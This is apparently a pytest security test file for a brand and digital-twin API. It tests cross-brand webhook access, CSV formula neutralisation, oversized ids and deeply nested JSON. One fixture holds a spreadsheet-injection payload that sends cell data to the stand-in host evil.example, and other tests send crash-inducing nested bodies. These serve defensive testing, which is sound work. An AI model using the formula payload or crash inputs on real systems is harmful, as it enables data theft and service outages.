"""Smaller holes, each tried as an attacker would: another brand's collection in a webhook, a formula
in a twin's name reaching the brand's spreadsheet, ids beyond 64 bits."""

from __future__ import annotations

import csv
import io

import pytest

from tests.api.conftest import Stack, physical

TOO_BIG = str(2**64)


def test_a_brand_cannot_subscribe_to_another_brands_collection(stack: Stack) -> None:
    mine, my_collection = stack.new_brand("Hook Own", "HKO")
    _, their_collection = stack.new_brand("Hook Other", "HKT")
    body = {"url": "https://1.1.1.1/hook", "event_types": ["transferred"]}
    r = stack.client.post("/v1/webhooks", json=body | {"collection": their_collection}, headers=mine)
    assert r.status_code == 404, r.text
    assert r.json()["type"].endswith("/not-found")
    assert stack.client.get("/v1/webhooks", headers=mine).json()["webhooks"] == []
    r = stack.client.post("/v1/webhooks", json=body | {"collection": my_collection}, headers=mine)
    assert r.status_code == 201, r.text


def test_claim_secret_csv_neutralises_spreadsheet_formulas(stack: Stack) -> None:
    headers, _ = stack.new_brand("Formula House", "FRM")
    evil = '=HYPERLINK("https://evil.example/?"&A1,"open")'
    twin = physical("F-1") | {"name": evil, "claimable": True}
    job = stack.wait_job(headers, stack.client.post("/v1/twins", json=twin, headers=headers).json()["id"])
    r = stack.client.get(f"/v1/jobs/{job['id']}/claim-secrets", params={"format": "csv"}, headers=headers)
    assert r.status_code == 200, r.text
    rows = list(csv.DictReader(io.StringIO(r.text)))
    assert rows[0]["name"] == "'" + evil  # shown as text, never run
    assert not any(value.startswith(("=", "+", "-", "@")) for row in rows for value in row.values())


@pytest.mark.parametrize(
    "path",
    [
        f"/v1/verify/0x{'11' * 20}/{TOO_BIG}",
        f"/v1/twins/0x{'11' * 20}/{TOO_BIG}",
        f"/v1/twins/0x{'11' * 20}/{TOO_BIG}/provenance",
        f"/v1/twins/0x{'11' * 20}/{TOO_BIG}/transfers/typed-data?to=0x{'22' * 20}",
        f"/v1/jobs/some-job?offset={TOO_BIG}",
        f"/v1/events/stream?after={TOO_BIG}",
    ],
)
def test_out_of_range_ids_are_invalid_input_not_a_crash(stack: Stack, path: str) -> None:
    headers, _ = stack.new_brand(f"Range {abs(hash(path)) % 10**6}", "RNG")
    r = stack.client.get(path, headers=headers)
    assert r.status_code == 422, (r.status_code, r.text)
    assert r.headers["content-type"] == "application/problem+json"


def test_deeply_nested_json_cannot_crash_the_process() -> None:
    """py_ecc raises the recursion limit to 100,000 on import; with it, parsing `[[[[...` overflows the C
    stack and the process dies. Importing the service sets the limit back: the parse fails cleanly."""
    import subprocess
    import sys

    script = (
        "import api.main, json, sys\n"
        "try:\n    json.loads('[' * 200000)\n"
        "except RecursionError:\n    print('refused', sys.getrecursionlimit())\n"
    )
    done = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, timeout=120)
    assert done.returncode == 0 and done.stdout.split() == ["refused", "1000"], (done.returncode, done.stderr[-500:])


def test_a_deeply_nested_request_body_is_a_problem_not_a_crash(stack: Stack) -> None:
    body = b'{"message": ' + b"[" * 100_000 + b"]" * 100_000 + b', "signature": "0x00"}'
    r = stack.client.post("/v1/siwe/verify", content=body, headers={"Content-Type": "application/json"})
    assert 400 <= r.status_code < 500, r.text
    assert r.headers["content-type"] == "application/problem+json"
